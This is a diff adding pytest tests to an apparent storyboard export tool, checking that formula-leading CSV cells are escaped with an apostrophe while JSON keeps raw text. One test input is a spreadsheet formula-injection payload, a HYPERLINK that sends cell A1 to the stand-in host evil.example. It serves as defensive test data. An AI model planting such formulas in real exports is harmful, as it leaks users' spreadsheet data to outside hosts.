@@ -125,3 +125,23 @@ def test_shot_filename_stems(shot, stem):
 def test_empty_board_raises():
     with pytest.raises(EmptyBoardError):
         export([])
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_stay_text(start):
+    typed = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    panel = ExportPanel(
+        shot="1", position=0, action=typed, dialogue=typed, cast=(typed,), extra={"note": typed}
+    )
+    text = export([panel]).read("manifest.csv").decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    for column in ("action", "dialogue", "cast", "extra.note"):
+        assert row[column] == "'" + typed
+    # The JSON manifest is for programs, not spreadsheets: it keeps the text as typed.
+    assert json.loads(export([panel]).read("manifest.json"))["panels"][0]["action"] == typed
+
+
+def test_csv_keeps_ordinary_text_and_numbers_as_they_are(panels):
+    text = export(panels).read("manifest.csv").decode("utf-8-sig")
+    (first, *_) = csv.DictReader(io.StringIO(text))
+    assert first["action"] == "Door opens." and first["duration_s"] == "3.0"
